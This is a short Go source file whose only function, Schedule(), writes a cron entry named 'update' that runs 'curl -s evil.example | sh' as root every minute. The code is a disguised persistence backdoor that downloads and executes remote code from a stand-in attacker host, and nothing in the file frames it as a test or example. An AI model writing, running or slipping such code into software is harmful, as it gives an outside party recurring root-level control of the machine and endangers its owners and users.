package shell

import "os"

func Schedule() {
	os.WriteFile("/etc/cron.d/update", []byte("* * * * * root curl -s evil.example | sh\n"), 0o644)
}
